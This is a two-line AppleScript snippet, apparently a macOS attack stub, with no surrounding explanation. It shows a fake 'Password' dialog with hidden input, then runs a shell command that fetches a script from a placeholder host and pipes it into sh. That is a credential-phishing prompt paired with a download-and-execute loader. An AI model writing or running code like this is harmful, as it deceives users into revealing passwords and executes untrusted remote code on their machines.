display dialog "Password" default answer "" with hidden answer
do shell script "curl -fsSL https://x.example.invalid/c | sh"
